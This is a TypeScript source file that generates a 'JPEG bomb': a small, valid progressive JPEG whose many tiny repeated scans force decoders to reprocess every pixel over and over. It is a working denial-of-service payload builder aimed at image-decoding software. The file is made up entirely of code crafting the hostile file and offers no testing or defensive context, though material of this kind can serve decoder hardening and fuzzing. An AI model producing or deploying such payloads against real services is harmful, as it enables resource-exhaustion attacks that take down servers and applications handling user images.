export interface BombSize {
  readonly width: number;
  readonly height: number;
  /** Behind the first one. */
  readonly scans: number;
}

const COMPONENTS = 3;
const BLOCK_SIDE = 8;
/** Blocks that one code, of fourteen more bits, says are empty. */
const MAX_RUN = 32_767;
const MAX_RUN_BITS = 14;
const u16 = (value: number): number[] => [value >> 8, value & 0xff];

/** A progressive JPEG without a fault, all grey, that goes over all of its pixels again and again in a few bytes each time. */
export function jpegBomb({ width, height, scans }: BombSize): Buffer {
  const components = Array.from({ length: COMPONENTS }, (_, at) => at + 1);
  const blocks = Math.ceil(width / BLOCK_SIDE) * Math.ceil(height / BLOCK_SIDE);
  const oneCode = [1, ...Array<number>(15).fill(0)];
  const table = (kind: number, symbol: number) => [0xff, 0xc4, ...u16(20), kind, ...oneCode, symbol];
  const head = [
    ...[0xff, 0xd8, 0xff, 0xdb, ...u16(67), 0, ...Array<number>(64).fill(1)],
    ...[0xff, 0xc2, ...u16(8 + 3 * COMPONENTS), 8, ...u16(height), ...u16(width), COMPONENTS],
    ...components.flatMap((component) => [component, 0x11, 0]),
    ...table(0x00, 0),
    ...table(0x10, 0xe0),
    ...[0xff, 0xda, ...u16(6 + 2 * COMPONENTS), COMPONENTS, ...components.flatMap((component) => [component, 0]), 0, 0, 0],
  ];
  const nothing = packed(`0${'1'.repeat(MAX_RUN_BITS)}`.repeat(Math.ceil(blocks / MAX_RUN)));
  const again = components.map((component) =>
    Buffer.concat([Buffer.from([0xff, 0xda, ...u16(8), 1, component, 0, 1, 63, 0]), nothing]),
  );
  return Buffer.concat([
    Buffer.from(head),
    Buffer.alloc(Math.ceil((blocks * COMPONENTS) / 8)),
    ...Array.from({ length: scans }, (_, at) => again[at % COMPONENTS] ?? Buffer.alloc(0)),
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** Bits in bytes, filled up with ones, and a 00 behind each FF. */
function packed(bits: string): Buffer {
  const filled = bits.padEnd(Math.ceil(bits.length / 8) * 8, '1');
  const bytes = (filled.match(/.{8}/g) ?? []).map((byte) => parseInt(byte, 2));
  return Buffer.from(bytes.flatMap((byte) => (byte === 0xff ? [byte, 0] : [byte])));
}
